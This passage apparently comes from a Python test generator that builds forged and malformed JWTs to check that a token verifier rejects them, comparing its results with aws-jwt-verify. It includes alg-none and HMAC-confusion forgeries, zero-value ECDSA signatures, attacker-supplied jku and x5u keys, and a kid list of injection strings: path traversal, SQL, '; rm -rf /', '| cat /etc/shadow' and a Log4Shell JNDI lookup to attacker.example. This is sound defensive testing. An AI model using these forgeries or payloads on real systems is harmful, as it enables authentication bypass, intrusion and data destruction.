             "a NumericDate before 1970 is malformed to us; aws-jwt-verify compares nbf as any number, ignores iat")
def _negative(rng, now):
    for name, value in (("nbf", -1), ("nbf", -10 ** 6), ("iat", -5), ("iat", -1.5)):
        yield f"{name}={value}", "generic", mint(any_key(rng), valid_claims(rng, now, **{name: value}))


@token_class("huge_integer_in_unread_claim", "huge numbers", "malformed", ACCEPT,
             "an integer literal of 4400..8000 digits in a claim nobody reads")
def _huge_int(rng, now):
    for _ in range(3):
        digits = rng.randint(4400, 8000)
        yield f"digits={digits}", "generic", raw_payload(any_key(rng), with_member(valid_claims(rng, now),
                                                                                  '"n":1' + "0" * (digits - 1)))


@token_class("scope_as_array", "scope of the wrong type", ACCEPT, "JwtParseError",
             "scope as an array of strings: read as scopes by us, not a string to aws-jwt-verify")
def _scope_array(rng, now):
    for alg in rng.sample(ALGS, 5):
        scopes = ["orders:read"] + rng.sample(SCOPE_WORDS, rng.randint(0, 2))
        yield f"{alg}:{scopes}", "generic_scope", mint(KEYS[alg], valid_claims(rng, now, scope=scopes))
    for scopes in (["aws.cognito.signin.user.admin"], ["openid", "email"], []):
        yield f"cognito:{scopes}", "cognito_access", cognito(cognito_access_claims(rng, now, scope=scopes))


@token_class("cognito_id_aud_array", "aud wrong type", ACCEPT, "CognitoJwtInvalidClientIdError",
             "a Cognito ID token whose aud is an array containing our client id")
def _cognito_aud_array(rng, now):
    for aud in ([CLIENT_ID], [CLIENT_ID, "other-client"], ["other-client", CLIENT_ID]):
        yield f"aud={aud}", "cognito_id", cognito(cognito_id_claims(rng, now, aud=aud))


@token_class("token_too_large", "oversized tokens", "token_too_large", ACCEPT,
             "the token is longer than 16 KiB")
def _too_large(rng, now):
    for alg in rng.sample(ALGS, 4):
        yield alg, "generic", mint(KEYS[alg], valid_claims(rng, now, blob="x" * rng.randint(12500, 40000)))
    yield "cognito", "cognito_access", cognito(cognito_access_claims(rng, now, blob="y" * 20000))


@token_class("header_too_large", "oversized tokens", "token_too_large", ACCEPT,
             "the header segment is longer than 2 KiB (the token is not)")
def _header_large(rng, now):
    for alg in rng.sample(ALGS, 4):
        yield alg, "generic", mint(KEYS[alg], valid_claims(rng, now), header={"x": "h" * rng.randint(1600, 6000)})


# === both refuse ======================================================================================================

NONE_CASINGS = ["".join(c) for c in itertools.product("nN", "oO", "nN", "eE")]


@token_class("alg_none_unsigned", "alg none in every casing", "malformed", "JwtParseError",
             "an unsigned token (empty signature segment): we refuse the empty segment, the reference its regex")
def _none_unsigned(rng, now):
    for casing in NONE_CASINGS:
        for kid in (None, any_key(rng).kid):
            header = {"alg": casing, **({"kid": kid} if kid else {})}
            yield f"{casing}-kid={kid}", "generic", f"{segment(header)}.{segment(valid_claims(rng, now))}."


@token_class("alg_none_signed", "alg none in every casing", "unsupported_alg", "JwtInvalidSignatureAlgorithmError",
             "alg none (any casing) with a signature and a real kid: never a supported alg to us; not the JWK's alg")
def _none_signed(rng, now):
    for casing in NONE_CASINGS:
        for _ in range(2):
            key = any_key(rng)
            body = valid_claims(rng, now)
            signing_input = f"{segment({'alg': casing, 'kid': key.kid, 'typ': 'at+jwt'})}.{segment(body)}"
            sig = rng.choice((key.sign(signing_input.encode()), rng.randbytes(rng.randint(1, 64))))
            yield f"{casing}-{key.alg}", "generic", f"{signing_input}.{b64url(sig)}"


@token_class("alg_none_signed_without_kid", "alg none in every casing", "unsupported_alg", "JwtWithoutValidKidError",
             "alg none with a signature and no kid: we refuse the alg, the reference finds no kid")
def _none_no_kid(rng, now):
    for casing in NONE_CASINGS:
        yield casing, "generic", f"{segment({'alg': casing})}.{segment(valid_claims(rng, now))}.{b64url(b'x' * 8)}"


@token_class("hmac_with_public_key", "HMAC confusion with the public key", "unsupported_alg",
             "JwtInvalidSignatureAlgorithmError",
             "HS256/384/512 keyed with the issuer's public key (PEM, DER, JWK, OpenSSH): we never accept HMAC; the "
             "JWK's alg is not HS*")
def _hmac(rng, now):
    for alg, hs_alg, form in itertools.product(ALGS, ("HS256", "HS384", "HS512"), ("pem", "der", "jwk", "ssh")):
        yield f"{alg}-{hs_alg}-{form}", "generic", hmac_with_public_key(KEYS[alg], valid_claims(rng, now), form=form,
                                                                       hs_alg=hs_alg)
    for form in ("pem", "der", "jwk", "ssh"):
        yield f"cognito-{form}", "cognito_access", hmac_with_public_key(COGNITO_KEY, cognito_access_claims(rng, now),
                                                                        form=form)


def _with_alg(key: SigningKey, alg: object, body: dict) -> str:
    """Signed by `key` with its own algorithm, the header claiming `alg`."""
    header = {"alg": alg, "kid": key.kid, "typ": "at+jwt"}
    return signed(key, segment(header), segment(body), key.alg)


@token_class("alg_unknown", "alg outside the allow-list", "unsupported_alg", "JwtInvalidSignatureAlgorithmError",
             "an alg that is no JWS signature algorithm we implement (or a near miss of one); not the JWK's alg")
def _alg_unknown(rng, now):
    for alg in ("RS1", "ES256K", "Ed448", "rs256", "RS256 ", "EDDSA", "eddsa", "PS256K", "", "none ",
                "HS", "ES521"):
        key = any_key(rng)
        yield f"{alg!r}-{key.alg}", "generic", _with_alg(key, alg, valid_claims(rng, now))


@token_class("alg_missing", "alg outside the allow-list", "malformed", "JwtInvalidSignatureAlgorithmError",
             "no alg in the header: malformed to us; missing against the JWK's alg to the reference")
def _alg_missing(rng, now):
    for alg in rng.sample(ALGS, 3):
        key = KEYS[alg]
        yield alg, "generic", signed(key, segment({"kid": key.kid, "typ": "at+jwt"}), segment(valid_claims(rng, now)))


@token_class("alg_not_a_string", "alg outside the allow-list", "malformed", "JwtParseError",
             "alg is a number, null, array, object or boolean")
def _alg_type(rng, now):
    for alg in (5, None, ["RS256"], {"RS256": 1}, True):
        key = any_key(rng)
        yield f"{alg!r}", "generic", _with_alg(key, alg, valid_claims(rng, now))


@token_class("alg_not_matching_key", "alg outside the allow-list", "alg_not_allowed",
             "JwtInvalidSignatureAlgorithmError",
             "the kid names a key of another type, curve or hash than the alg: it cannot verify that alg")
def _alg_mismatch(rng, now):
    for kid_alg, alg in itertools.permutations(ALGS, 2):
        yield f"kid={kid_alg}-alg={alg}", "generic", mint(KEYS[alg], valid_claims(rng, now),
                                                          header={"kid": KEYS[kid_alg].kid})


@token_class("supported_alg_outside_allow_list", "alg outside the allow-list", "alg_not_allowed",
             "JwtInvalidSignatureAlgorithmError",
             "PS* signed with the issuer's RSA key, or Ed25519 (RFC 9864's name) with its EdDSA key: algorithms we "
             "implement but this issuer does not allow; not the JWK's alg either")
def _supported_not_allowed(rng, now):
    for rs_alg, ps_alg in itertools.product(("RS256", "RS384", "RS512"), PSS_ALGS):
        yield f"{rs_alg}-key-{ps_alg}", "generic", mint(KEYS[rs_alg], valid_claims(rng, now), alg=ps_alg)
    for i in range(3):
        yield f"EdDSA-key-Ed25519#{i}", "generic", _with_alg(KEYS["EdDSA"], "Ed25519", valid_claims(rng, now))


@token_class("jwe_header_on_jws", "JWE where a JWS is expected", "unsupported_alg",
             "JwtInvalidSignatureAlgorithmError",
             "a JWE key-management alg (RSA-OAEP, ECDH-ES, dir ...) with enc in a three-segment token")
def _jwe_header(rng, now):
    for alg in ("RSA-OAEP", "RSA-OAEP-256", "ECDH-ES", "dir", "A128KW"):
        key = any_key(rng)
        header = {"alg": alg, "enc": "A256GCM", "kid": key.kid}
        yield alg, "generic", signed(key, segment(header), segment(valid_claims(rng, now)), key.alg)


@token_class("jwe_compact_serialization", "JWE where a JWS is expected", "malformed", "JwtParseError",
             "a five-segment compact JWE (RFC 7516 7.1), encrypted key present or empty (dir)")
def _jwe(rng, now):
    for alg in ("RSA-OAEP", "RSA-OAEP-256", "dir", "ECDH-ES"):
        key = any_key(rng)
        encrypted_key = b"" if alg in ("dir", "ECDH-ES") else rng.randbytes(256)
        parts = [segment({"alg": alg, "enc": "A256GCM", "kid": key.kid}), b64url(encrypted_key),
                 b64url(rng.randbytes(12)), b64url(rng.randbytes(rng.randint(100, 400))), b64url(rng.randbytes(16))]
        yield alg, "generic", ".".join(parts)


@token_class("signature_empty", "null signature", "malformed", "JwtParseError",
             "a correctly formed header and payload followed by an empty signature segment")
def _sig_empty(rng, now):
    for alg, i in itertools.product(ALGS, range(2)):
        yield f"{alg}#{i}", "generic", mint(KEYS[alg], valid_claims(rng, now)).rsplit(".", 1)[0] + "."


@token_class("signature_all_zero_bytes", "null signature", "bad_signature", "JwtInvalidSignatureError",
             "a signature of the right length, all zero bytes (RSA, Ed25519)")
def _sig_zero(rng, now):
    for alg, i in itertools.product(("RS256", "RS384", "RS512", "EdDSA"), range(2)):
        token = mint(KEYS[alg], valid_claims(rng, now))
        yield f"{alg}#{i}", "generic", with_signature(token, bytes(len(signature_bytes(token))))


@token_class("signature_truncated", "truncated signature", "bad_signature", "JwtInvalidSignatureError",
             "an RSA or Ed25519 signature cut short (or one byte long): it cannot verify")
def _sig_truncated(rng, now):
    for alg, i in itertools.product(("RS256", "RS384", "RS512", "EdDSA"), range(4)):
        token = mint(KEYS[alg], valid_claims(rng, now))
        raw = signature_bytes(token)
        yield f"{alg}-keep", "generic", with_signature(token, raw[:rng.randint(1, len(raw) - 1)])


@token_class("ecdsa_signature_wrong_length", "truncated signature", "bad_signature", "Error",
             "an ECDSA signature not exactly 2 x the curve size: not a signature to us; Node throws a plain "
             "Error('Malformed signature') converting it from P1363, which aws-jwt-verify lets through")
def _ecdsa_length(rng, now):
    for alg, i in itertools.product(EC_SIZES, range(4)):
        token = mint(KEYS[alg], valid_claims(rng, now))
        raw = signature_bytes(token)
        cut = rng.choice((raw[:rng.randint(1, len(raw) - 1)], raw + rng.randbytes(rng.randint(1, 8))))
        yield f"{alg}:len={len(cut)}", "generic", with_signature(token, cut)


@token_class("ecdsa_r_or_s_zero_p1363", "ECDSA r=s=0", "bad_signature", "JwtInvalidSignatureError",
             "r, s or both zero in the fixed-size r||s form (the psychic-signatures shape, CVE-2022-21449)")
def _ecdsa_zero(rng, now):
    for alg in EC_SIZES:
        size = EC_SIZES[alg]
        token = mint(KEYS[alg], valid_claims(rng, now))
        raw = signature_bytes(token)
        for name, sig in (("r=s=0", bytes(2 * size)), ("r=0", bytes(size) + raw[size:]),
                          ("s=0", raw[:size] + bytes(size))):
            yield f"{alg}:{name}", "generic", with_signature(token, sig)


@token_class("ecdsa_r_s_zero_der", "ECDSA r=s=0", "bad_signature", "Error",
             "r = s = 0 as ASN.1 DER (8 bytes): wrong length to us; Node's P1363 conversion throws a plain Error")
def _ecdsa_zero_der(rng, now):
    from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
    for alg in EC_SIZES:
        yield alg, "generic", with_signature(mint(KEYS[alg], valid_claims(rng, now)), encode_dss_signature(0, 0))


@token_class("ecdsa_r_or_s_at_least_n", "ECDSA r or s >= n", "bad_signature", "JwtInvalidSignatureError",
             "r or s equal to the curve order, or all one bits: outside [1, n-1], never a valid signature")
def _ecdsa_big(rng, now):
    for alg in EC_SIZES:
        size, n = EC_SIZES[alg], EC_ORDERS[alg]
        token = mint(KEYS[alg], valid_claims(rng, now))
        raw = signature_bytes(token)
        ones = b"\xff" * size
        for name, sig in (("r=n", n.to_bytes(size, "big") + raw[size:]), ("s=n", raw[:size] + n.to_bytes(size, "big")),
                          ("r=ones", ones + raw[size:]), ("s=ones", raw[:size] + ones)):
            yield f"{alg}:{name}", "generic", with_signature(token, sig)


@token_class("ecdsa_der_signature", "ECDSA DER where P1363 is expected", "bad_signature", "Error",
             "a genuine ECDSA signature in ASN.1 DER instead of r||s: wrong length to us; Node throws a plain Error")
def _ecdsa_der(rng, now):
    for alg, i in itertools.product(EC_SIZES, range(3)):
        yield f"{alg}#{i}", "generic", ecdsa_der_signature(KEYS[alg], valid_claims(rng, now))


@token_class("eddsa_s_not_reduced", BEYOND_THE_LIST, "bad_signature", "JwtInvalidSignatureError",
             "an Ed25519 signature with S + L for S (RFC 8032 5.1.7 requires S < L): malleability refused by both")
def _eddsa_s(rng, now):
    for i in range(3):
        token = mint(KEYS["EdDSA"], valid_claims(rng, now))
        raw = signature_bytes(token)
        s = int.from_bytes(raw[32:], "little") + ED25519_ORDER
        yield f"#{i}", "generic", with_signature(token, raw[:32] + s.to_bytes(32, "little"))


@token_class("signature_tampered", BEYOND_THE_LIST, "bad_signature", "JwtInvalidSignatureError",
             "one signature character changed (not the last, whose unused bits are another class)")
def _sig_tampered(rng, now):
    for alg, i in itertools.product(ALGS, range(3)):
        head, sig = mint(KEYS[alg], valid_claims(rng, now)).rsplit(".", 1)
        pos = rng.randrange(len(sig) - 1)
        sig = sig[:pos] + rng.choice([c for c in "AQgw" if c != sig[pos]]) + sig[pos + 1:]
        yield f"{alg}@{pos}", "generic", f"{head}.{sig}"


@token_class("payload_tampered", BEYOND_THE_LIST, "bad_signature", "JwtInvalidSignatureError",
             "the claims replaced after signing (another subject, scope or audience)")
def _payload_tampered(rng, now):
    for alg, i in itertools.product(ALGS, range(2)):
        body = valid_claims(rng, now)
        h, _, s = mint(KEYS[alg], body).split(".")
        forged = dict(body, sub="admin", scope="admin:all", aud=[AUDIENCE, "billing-api"])
        yield f"{alg}#{i}", "generic", f"{h}.{segment(forged)}.{s}"


TOKEN_SUPPLIED_MEMBERS = ("jwk", "jku", "x5u", "x5c", "none")


def _supplied_header(member: str, attacker: SigningKey) -> dict:
    return {"jwk": {"jwk": attacker.jwk()}, "jku": {"jku": "https://attacker.example/jwks.json"},
            "x5u": {"x5u": "https://attacker.example/cert.pem"},
            "x5c": {"x5c": ["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A"]}, "none": {}}[member]


@token_class("token_supplied_key_with_real_kid", "embedded jwk, jku, x5u, x5c", "bad_signature",
             "JwtInvalidSignatureError",
             "signed by an attacker's key presented in jwk/jku/x5u/x5c (or nowhere) under the issuer key's kid")
def _supplied_real_kid(rng, now):
    for member, alg in itertools.product(TOKEN_SUPPLIED_MEMBERS, ALGS):
        attacker = attacker_for(alg, KEYS[alg].kid)
        yield f"{member}-{alg}", "generic", mint(attacker, valid_claims(rng, now),
                                                 header=_supplied_header(member, attacker))


@token_class("token_supplied_key_with_own_kid", "embedded jwk, jku, x5u, x5c", "unknown_kid",
             "KidNotFoundInJwksError",
             "signed by an attacker's key presented in jwk/jku/x5u/x5c under its own kid, which the issuer lacks")
def _supplied_own_kid(rng, now):
    for member in TOKEN_SUPPLIED_MEMBERS[:4]:
        for alg in rng.sample(ALGS, 3):
            attacker = attacker_for(alg, f"attacker-{rng.getrandbits(32):x}")
            yield f"{member}-{alg}", "generic", mint(attacker, valid_claims(rng, now),
                                                     header=_supplied_header(member, attacker))


KID_INJECTIONS = ("../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/dev/null", "file:///etc/passwd",
                  "../kid-rs256", "' OR '1'='1", "kid-rs256' --", "1; DROP TABLE keys", "x' UNION SELECT 'k",
                  "$(id)", "`id`", "; rm -rf /", "| cat /etc/shadow", "${jndi:ldap://attacker.example/a}",
                  "<script>alert(1)</script>", "%00", "kid-rs256\u0000", "kid-rs256\n", "\u202ekid-rs256",
                  "{{7*7}}", "%s%s%n")


@token_class("kid_injection", "kid path traversal, SQL, shell", "unknown_kid", "KidNotFoundInJwksError",
             "kid is matched as an opaque string: path, SQL, shell and template text is just an unknown kid")
def _kid_injection(rng, now):
    for kid in KID_INJECTIONS:
        key = any_key(rng)
        yield f"{kid!a}-{key.alg}", "generic", mint(key, valid_claims(rng, now), header={"kid": kid})


@token_class("kid_empty", "kid non-string, empty, huge", "unknown_kid", "KidNotFoundInJwksError",
             "kid is the empty string, which no key has")
def _kid_empty(rng, now):
    for alg in rng.sample(ALGS, 3):
        yield alg, "generic", signed(KEYS[alg], segment({"alg": alg, "kid": "", "typ": "at+jwt"}),
                                     segment(valid_claims(rng, now)))


@token_class("kid_not_a_string", "kid non-string, empty, huge", "malformed", "JwtParseError",
             "kid is a number, boolean, array or object (RFC 7515 4.1.4: a string)")
def _kid_type(rng, now):
    for kid in (5, 0, True, False, [], ["kid-rs256"], {"$ne": None}, 1.5):
        key = any_key(rng)
        yield f"{kid!r}", "generic", mint(key, valid_claims(rng, now), header={"kid": kid})


@token_class("kid_too_long", "kid non-string, empty, huge", "malformed", "KidNotFoundInJwksError",
             "kid of 257..1200 characters: over our 256-character bound (the header is still under 2 KiB)")
def _kid_long(rng, now):
    for length in (257, 300, rng.randint(301, 1200), 1200):
        key = any_key(rng)
        yield f"len={length}", "generic", mint(key, valid_claims(rng, now), header={"kid": "k" * length})


@token_class("kid_huge", "kid non-string, empty, huge", "token_too_large", "KidNotFoundInJwksError",
             "kid of 1600..6000 characters: the header segment exceeds 2 KiB, refused before decoding")
def _kid_huge(rng, now):
    for length in (1600, rng.randint(1601, 6000), 6000):
        yield f"len={length}", "generic", mint(any_key(rng), valid_claims(rng, now), header={"kid": "K" * length})


@token_class("kid_unknown", "unknown kid", "unknown_kid", "KidNotFoundInJwksError",
             "a kid the issuer's JWKS does not hold: random, another issuer's, or a case/space near miss")
def _kid_unknown(rng, now):
    kids = [f"{rng.getrandbits(64):016x}" for _ in range(5)] + [COGNITO_KEY.kid, "KID-RS256", " kid-rs256",
                                                                 "kid-rs256 ", "kid-RS256", "kid-rs257"]
    for kid in kids:
        key = any_key(rng)
        yield f"{kid!r}-{key.alg}", "generic", mint(key, valid_claims(rng, now), header={"kid": kid})


@token_class("kid_of_encryption_key", "unknown kid", "unknown_kid", "JwkInvalidUseError",
             "the kid names a key published with use enc: we skip it when loading, the reference refuses its use")
def _enc_key(rng, now):
    for i in range(3):
        yield f"#{i}", "generic", mint(ENC_KEY, valid_claims(rng, now))


@token_class("segment_count_wrong", "2 or 4+ segments", "malformed", "JwtParseError",
             "1, 2, 4, 5 or 6 dot-separated segments")
def _segments(rng, now):
    for count, i in itertools.product((1, 2, 4, 5, 6), range(2)):
        h, p, s = mint(any_key(rng), valid_claims(rng, now)).split(".")
        parts = ([h, p, s] + [s, p, h])[:count]
        yield f"{count}#{i}", "generic", ".".join(parts)


@token_class("segment_empty", "empty segments", "malformed", "JwtParseError",
             "an empty header, payload or token, or only dots")
def _empty_segments(rng, now):
    h, p, s = mint(any_key(rng), valid_claims(rng, now)).split(".")
    for name, token in (("header", f".{p}.{s}"), ("payload", f"{h}..{s}"), ("header+payload", f"..{s}"),
                        ("all", ".."), ("token", ""), ("payload+signature", f"{h}..")):
        yield name, "generic", token


@token_class("json_serialization", "JSON serialization", "malformed", "JwtParseError",
             "the JWS JSON serialization (RFC 7515 7.2, flattened and general) where a compact JWT is expected")
def _json_serialization(rng, now):
    for alg in rng.sample(ALGS, 2):
        h, p, s = mint(KEYS[alg], valid_claims(rng, now)).split(".")
        yield f"flattened-{alg}", "generic", json.dumps({"protected": h, "payload": p, "signature": s})
        yield f"general-{alg}", "generic", json.dumps({"payload": p, "signatures": [{"protected": h,
                                                                                        "signature": s}]})


@token_class("whitespace", "whitespace", "malformed", "JwtParseError",
             "spaces, tabs, line breaks or a Bearer prefix around or inside the token")
def _whitespace(rng, now):
    for name in ("leading space", "trailing space", "trailing newline", "trailing CRLF", "leading tab",
                 "space before dot", "line-wrapped signature", "space in payload", "bearer prefix", "trailing nbsp"):
        h, p, s = mint(any_key(rng), valid_claims(rng, now)).split(".")
        token = {"leading space": f" {h}.{p}.{s}", "trailing space": f"{h}.{p}.{s} ",
                 "trailing newline": f"{h}.{p}.{s}\n", "trailing CRLF": f"{h}.{p}.{s}\r\n",
                 "leading tab": f"\t{h}.{p}.{s}", "space before dot": f"{h} .{p}.{s}",
                 "line-wrapped signature": f"{h}.{p}.{s[:40]}\n{s[40:]}",
                 "space in payload": f"{h}.{p[:9]} {p[9:]}.{s}",
                 "bearer prefix": f"Bearer {h}.{p}.{s}", "trailing nbsp": f"{h}.{p}.{s}\u00a0"}[name]
        yield name, "generic", token


@token_class("non_base64url_characters", "non-base64url characters", "malformed", "JwtParseError",
             "a character outside A-Z a-z 0-9 - _ inside a segment (standard-alphabet +/, '=' mid-segment, others)")
def _non_b64(rng, now):
    for char in "+/=!*%~$.\u00e9\\\"@":
        h, p, s = mint(any_key(rng), valid_claims(rng, now)).split(".")
        parts = [h, p, s]
        which = rng.randrange(3)
        pos = rng.randint(1, len(parts[which]) - 2)
        parts[which] = parts[which][:pos] + char + parts[which][pos:]
        if char == ".":
            which = "extra dot"
        yield f"{char!a}-in-{which}", "generic", ".".join(parts)


@token_class("header_not_an_object", "header not an object", "malformed", "JwtParseError",
             "the header is JSON but no object (array, string, number, null, boolean), or not JSON at all")
def _header_shape(rng, now):
    for text in ('["RS256"]', '"RS256"', "5", "null", "true", "{alg:RS256}", '{"alg":"RS256"', ""):
        key = any_key(rng)
        yield f"{text!r}", "generic", signed(key, b64url(text.encode()), segment(valid_claims(rng, now)))


@token_class("duplicate_members_last_invalid", "duplicate members", "malformed", "JwtInvalidAudienceError",
             "aud appears twice, the last value foreign: we refuse duplicates, JSON.parse keeps the foreign aud")
def _dup_invalid(rng, now):
    for alg in rng.sample(ALGS, 3):
        yield alg, "generic", raw_payload(KEYS[alg], with_member(valid_claims(rng, now), '"aud":"evil-api"'))


@token_class("payload_not_an_object", BEYOND_THE_LIST, "malformed", "JwtParseError",
             "the claims set is JSON but no object, or not JSON")
def _payload_shape(rng, now):
    for text in (b'["not","an","object"]', b'"claims"', b"123", b"null", b"{", b'{"a":1} {"b":2}'):
        yield f"{text!r}", "generic", raw_payload(any_key(rng), text)


@token_class("payload_not_utf8_json", "non-UTF-8 JSON", "malformed", "JwtParseError",
             "the claims set in UTF-16 or UTF-32, or UTF-8 behind a byte-order mark (RFC 8259 8.1: no BOM)")
def _payload_encoding(rng, now):
    for encoding in ("utf-16", "utf-16-be", "utf-32", "utf-8-sig"):
        yield encoding, "generic", raw_payload(any_key(rng), json_text(valid_claims(rng, now)).encode(encoding))


@token_class("payload_nesting_beyond_both_limits", "deep nesting", "malformed", "JwtParseError",
             "arrays nested 4000..6000 deep: beyond our recursion limit and beyond V8's stack (RangeError)")
def _deep_both(rng, now):
    for _ in range(3):
        depth = rng.randint(4000, 6000)
        yield f"depth={depth}", "generic", raw_payload(any_key(rng), with_member(
            valid_claims(rng, now), '"x":' + "[" * depth + "]" * depth))


@token_class("exp_overflows_double", "huge numbers", "malformed", "JwtParseError",
             "exp beyond the double range (1e400, a 400-digit integer, -1e400): Infinity is no NumericDate")
def _exp_overflow(rng, now):
    for text in ("1e400", "1" + "0" * 400, "-1e400", "1.7976931348623157e309"):
        yield text[:12], "generic", raw_payload(any_key(rng), with_member(valid_claims(rng, now, exp=None),
                                                                          f'"exp":{text}'))


@token_class("nbf_beyond_2_pow_53", "huge numbers", "malformed", "RangeError",
             "nbf at or beyond 2**53: out of our range; the reference refuses it too, but formatting nbf as a Date "
             "for its JwtNotBeforeError message throws RangeError (Dates end at 8.64e15 ms)")
def _nbf_huge(rng, now):
    for nbf in (2 ** 53, 10 ** 20, 1e300):
        yield f"nbf={nbf}", "generic", mint(any_key(rng), valid_claims(rng, now, nbf=nbf))


@token_class("exp_negative", BEYOND_THE_LIST, "malformed", "JwtExpiredError",
             "exp before 1970: out of our range; long expired to the reference")
def _exp_negative(rng, now):
    for exp in (-1, -10 ** 6, -0.5):
        yield f"exp={exp}", "generic", mint(any_key(rng), valid_claims(rng, now, exp=exp))


@token_class("time_claim_string", "exp/nbf/iat strings", "malformed", "JwtParseError",
             "exp, nbf or iat as a string of digits")
def _time_string(rng, now):
    for name, i in itertools.product(("exp", "nbf", "iat"), range(2)):
        value = {"exp": now + 600, "nbf": now - 10, "iat": now - 10}[name]
        yield f"{name}#{i}", "generic", mint(any_key(rng), valid_claims(rng, now, **{name: str(value)}))


@token_class("time_claim_boolean", BEYOND_THE_LIST, "malformed", "JwtParseError",
             "exp, nbf or iat as a boolean (no number in JSON, though Python's bool is an int)")
def _time_bool(rng, now):
    for name, value in (("exp", True), ("nbf", False), ("iat", True)):
        yield name, "generic", mint(any_key(rng), valid_claims(rng, now, **{name: value}))


@token_class("exp_null", "exp/nbf/iat missing", "malformed", "JwtParseError",
             "exp null: not a NumericDate to either side")
def _exp_null(rng, now):
    for alg in rng.sample(ALGS, 2):
        yield alg, "generic", raw_payload(KEYS[alg], with_member(valid_claims(rng, now, exp=None), '"exp":null'))


@token_class("exp_past", BEYOND_THE_LIST, "expired", "JwtExpiredError",
             "exp long past (seconds as integer or fraction)")
def _exp_past(rng, now):
    for alg in ALGS:
        exp = now - rng.randint(GRACE + MARGIN, 10 ** 7) - rng.choice((0, 0.5))
        yield f"{alg}:exp=now-{now - exp}", "generic", mint(KEYS[alg], valid_claims(rng, now, exp=exp, iat=exp - 600,
                                                                                   nbf=exp - 600))


@token_class("exp_beyond_leeway", "leeway boundary", "expired", "JwtExpiredError",
             f"exp {GRACE + MARGIN}..{GRACE + MARGIN + 120} s ago: just past the 60 s leeway / graceSeconds of both")
def _exp_outside(rng, now):
    for alg in ALGS:
        exp = now - rng.randint(GRACE + MARGIN, GRACE + MARGIN + 120)
        yield f"{alg}:exp=now-{now - exp}", "generic", mint(KEYS[alg], valid_claims(rng, now, exp=exp, iat=exp - 600,
                                                                                   nbf=exp - 600))


@token_class("nbf_beyond_leeway", "leeway boundary", "not_yet_valid", "JwtNotBeforeError",
             f"nbf {GRACE + MARGIN}..{GRACE + MARGIN + 120} s ahead: just beyond the leeway / graceSeconds of both")
def _nbf_outside(rng, now):
    for alg in ALGS:
        nbf = now + rng.randint(GRACE + MARGIN, GRACE + MARGIN + 120)
        yield f"{alg}:nbf=now+{nbf - now}", "generic", mint(KEYS[alg], valid_claims(rng, now, nbf=nbf, iat=now))


@token_class("nbf_far_future", "exp/nbf/iat far future", "not_yet_valid", "JwtNotBeforeError",
             "nbf days to decades ahead")
def _nbf_far(rng, now):
    for nbf in (now + 86400, now + 10 ** 8, 2 ** 40, 8 * 10 ** 12):
        yield f"nbf={nbf}", "generic", mint(any_key(rng), valid_claims(rng, now, nbf=nbf, iat=now))


@token_class("nbf_beyond_javascript_dates", "exp/nbf/iat far future", "not_yet_valid", "RangeError",
             "nbf past 8.64e12 s (the last JavaScript Date) but below 2**53: not yet valid to us; the reference "
             "refuses it with the RangeError its error message's Date formatting throws")
def _nbf_beyond_dates(rng, now):
    for nbf in (9 * 10 ** 12, rng.randint(10 ** 13, 2 ** 53 - 1), 2 ** 53 - 1):
        yield f"nbf={nbf}", "generic", mint(any_key(rng), valid_claims(rng, now, nbf=nbf, iat=now))


ISSUER_VARIANTS = (ISSUER + "/", ISSUER + "//", ISSUER + "/x", ISSUER[:-1], ISSUER + ".evil.example",
                   "http://idp.example.test", "HTTPS://idp.example.test", "https://IDP.example.test",
                   ISSUER + " ", " " + ISSUER, ISSUER + "\u0000", ISSUER + "#", ISSUER + "?", ISSUER + ":443",
                   "https://evil.example/" + ISSUER, "https://idp.example.test@evil.example", ISSUER + "%2F", "",
                   "idp.example.test", "https://evil.example")


@token_class("iss_variant", "iss prefix, suffix, trailing slash", "unknown_issuer", "JwtInvalidIssuerError",
             "iss must equal the configured issuer exactly: prefixes, suffixes, slashes, case, ports are others")
def _iss(rng, now):
    for iss in ISSUER_VARIANTS:
        yield f"{iss!a}", "generic", mint(any_key(rng), valid_claims(rng, now, iss=iss))


@token_class("iss_missing", BEYOND_THE_LIST, "missing_claim", "JwtInvalidIssuerError", "no iss claim")
def _iss_missing(rng, now):
    for alg in rng.sample(ALGS, 2):
        yield alg, "generic", mint(KEYS[alg], valid_claims(rng, now, iss=None))


@token_class("iss_not_a_string", BEYOND_THE_LIST, "malformed", "JwtParseError", "iss is a number, array or object")
def _iss_type(rng, now):
    for iss in (5, [ISSUER], {"url": ISSUER}):
        yield f"{iss!r}", "generic", mint(any_key(rng), valid_claims(rng, now, iss=iss))


@token_class("aud_missing", "aud missing", "missing_claim", "JwtInvalidAudienceError", "no aud claim")
def _aud_missing(rng, now):
    for alg in rng.sample(ALGS, 4):
        yield alg, "generic", mint(KEYS[alg], valid_claims(rng, now, aud=None))


@token_class("aud_not_ours", "aud untrusted extras", "invalid_audience", "JwtInvalidAudienceError",
             "aud (string or array) names only audiences other than ours, near misses included")
def _aud_other(rng, now):
    for aud in ("billing-api", "orders-api ", "Orders-api", "orders-api/", "orders-ap", "", "orders-api,evil",
                ["billing-api", "x"], ["orders-api-x"], [""], ["ORDERS-API", "evil"]):
        yield f"{aud!r}", "generic", mint(any_key(rng), valid_claims(rng, now, aud=aud))


@token_class("aud_wrong_type", "aud wrong type", "malformed", "JwtParseError",
             "aud is a number, boolean, object, or an array holding a non-string")
def _aud_type(rng, now):
    for aud in (5, True, {"aud": AUDIENCE}, [AUDIENCE, 5], [[AUDIENCE]], [None]):
        yield f"{aud!r}", "generic", mint(any_key(rng), valid_claims(rng, now, aud=aud))


@token_class("aud_empty_array", "aud wrong type", "malformed", "JwtInvalidAudienceError",
             "aud is []: malformed to us (RFC 7519 4.1.3 names at least one audience); no overlap to the reference")
def _aud_empty(rng, now):
    for alg in rng.sample(ALGS, 2):
        yield alg, "generic", mint(KEYS[alg], valid_claims(rng, now, aud=[]))


@token_class("aud_null", "aud missing", "missing_claim", "JwtParseError",
             "aud null: missing to us; neither string nor array to the reference")
def _aud_null(rng, now):
    for alg in rng.sample(ALGS, 2):
        yield alg, "generic", raw_payload(KEYS[alg], with_member(valid_claims(rng, now, aud=None), '"aud":null'))


@token_class("cognito_id_token_as_access", "Cognito id vs access token_use", "wrong_token_use",
             "CognitoJwtInvalidTokenUseError", "token_use id where access tokens are configured")
def _cognito_id_as_access(rng, now):
    for i in range(4):
        yield f"#{i}", "cognito_access", cognito(cognito_id_claims(rng, now))


@token_class("cognito_access_token_as_id", "Cognito id vs access token_use", "wrong_token_use",
             "CognitoJwtInvalidTokenUseError", "token_use access where ID tokens are configured")
